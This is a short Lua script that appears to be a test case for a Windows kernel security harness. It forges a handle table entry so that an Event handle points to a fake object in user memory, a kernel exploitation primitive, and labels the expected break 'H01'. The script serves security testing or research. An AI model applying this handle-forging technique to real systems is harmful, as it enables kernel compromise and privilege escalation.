-- SPDX-License-Identifier: Apache-2.0
-- An entry that leads to user memory, where a forged object stands.
local m = desktop()
local handle = open(m.cmd, object("Event"))
write(entry(m.cmd, handle), string.pack("<I8", has("_HANDLE_TABLE_ENTRY.ObjectPointerBits") and 0x7ff6123400000001 or 0x7ff61234001))
breaks("H01")
